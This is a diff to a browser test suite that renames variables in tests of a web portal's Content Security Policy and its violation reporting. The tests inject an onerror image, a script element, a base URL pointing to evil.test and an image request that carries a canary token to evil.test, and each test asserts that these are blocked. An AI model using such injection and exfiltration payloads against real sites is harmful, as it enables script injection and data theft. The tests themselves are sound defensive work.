@@ -29,7 +29,7 @@ describe("the portal in a browser", () => {
   it("the portal cannot be framed by another page", async () => {
     const { port } = elsewhere.address() as AddressInfo;
     const page = await visit(`http://127.0.0.1:${port}/`);
-    const frame = page.frames().find((one) => one !== page.mainFrame());
+    const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
     await page.waitForTimeout(300);
     expect(await frame?.locator("#portal").count()).toBe(0);
     await expectComplaint(/frame-ancestors|Refused to display|refused to connect/u);
@@ -37,7 +37,7 @@ describe("the portal in a browser", () => {
 
   it("the portal runs no injected script, and follows no injected form or base", async () => {
     const page = await open("/");
-    const ran = await page.evaluate(`(async () => {
+    const injectedValues = await page.evaluate(`(async () => {
       document.body.insertAdjacentHTML("beforeend", '<img src="x:" onerror="window.ranInline = true">');
       const script = document.createElement("script");
       script.textContent = "window.ranScript = true";
@@ -48,12 +48,12 @@ describe("the portal in a browser", () => {
       await new Promise((resolve) => setTimeout(resolve, 200));
       return [window.ranInline, window.ranScript, document.baseURI.startsWith("https://evil.test")];
     })()`);
-    expect(ran).toEqual([undefined, undefined, false]);
+    expect(injectedValues).toEqual([undefined, undefined, false]);
     await expectComplaint(/Content Security Policy/u);
   });
 
   it("the portal reports policy violations to the service, which counts them and logs nothing secret", async () => {
-    const counted = async () =>
+    const readCounts = async () =>
       (await send(metricsPort, "/metrics")).text.match(/^signalbox_policy_violations_total\{.*$/gmu) ?? [];
     const logged = () =>
       server()
@@ -62,11 +62,11 @@ describe("the portal in a browser", () => {
     const secret = "c4n4ryT0ken";
     const page = await open("/components");
     await page.waitForTimeout(300);
-    const [before, lines] = [await counted(), logged().length];
+    const [countsBefore, lines] = [await readCounts(), logged().length];
     // The control: permitted content is not reported.
     await page.evaluate("document.body.append(Object.assign(new Image(), { src: '/portal/none.png' }))");
     await page.waitForTimeout(300);
-    expect([await counted(), logged().length]).toEqual([before, lines]);
+    expect([await readCounts(), logged().length]).toEqual([countsBefore, lines]);
     await page.evaluate(`(() => {
       history.replaceState(null, "", "/portal/components?q=${secret}#${secret}");
       const script = document.createElement("script");
@@ -75,29 +75,29 @@ describe("the portal in a browser", () => {
       document.body.append(Object.assign(new Image(), { src: "https://evil.test/${secret}?${secret}#${secret}" }));
     })()`);
     await until(() => logged().length >= lines + 2);
-    const told = { level: "warn", disposition: "enforce", document: "portal" };
+    const violation = { level: "warn", disposition: "enforce", document: "portal" };
     expect(logged().slice(lines)).toMatchObject([
-      { ...told, directive: "script-src-elem", blocked: "inline" },
-      { ...told, directive: "img-src", blocked: "https://evil.test" },
+      { ...violation, directive: "script-src-elem", blocked: "inline" },
+      { ...violation, directive: "img-src", blocked: "https://evil.test" },
     ]);
-    expect((await counted()).join()).toMatch(/script-src-elem.*img-src|img-src.*script-src-elem/su);
-    expect(`${server().log.join("")}${(await counted()).join()}`).not.toContain(secret);
+    expect((await readCounts()).join()).toMatch(/script-src-elem.*img-src|img-src.*script-src-elem/su);
+    expect(`${server().log.join("")}${(await readCounts()).join()}`).not.toContain(secret);
     await expectComplaint(/Content Security Policy/u);
   });
 
   it("the dialogs and menus of the portal need no inline style", async () => {
     const page = await open("/");
-    const inline = () => page.locator("style").count();
-    const before = await inline();
+    const countInlineStyles = () => page.locator("style").count();
+    const initialCount = await countInlineStyles();
     await page.keyboard.press("?");
     await page.getByRole("dialog").waitFor();
-    await expect.poll(() => inline()).toBe(before);
+    await expect.poll(() => countInlineStyles()).toBe(initialCount);
     expect(complaints()).toEqual([]);
   });
 
   it("the portal frames the visitors' page without scripts, in the page's own style", async () => {
     const page = await open("/");
-    const shown = await page.evaluate(
+    const frameState = await page.evaluate(
       `(async (style) => {
       const frame = document.createElement("iframe");
       frame.sandbox = "allow-same-origin";
@@ -110,7 +110,7 @@ describe("the portal in a browser", () => {
       return [getComputedStyle(main).maxInlineSize !== "none" || getComputedStyle(main).padding !== "0px", window.ranInFrame];
     })(${JSON.stringify(browserAssets.pageStyle)})`,
     );
-    expect(shown).toEqual([true, undefined]);
+    expect(frameState).toEqual([true, undefined]);
     // Of the script alone it complains.
     expect(complaints().filter((complaint) => /style/iu.test(complaint))).toEqual([]);
   });
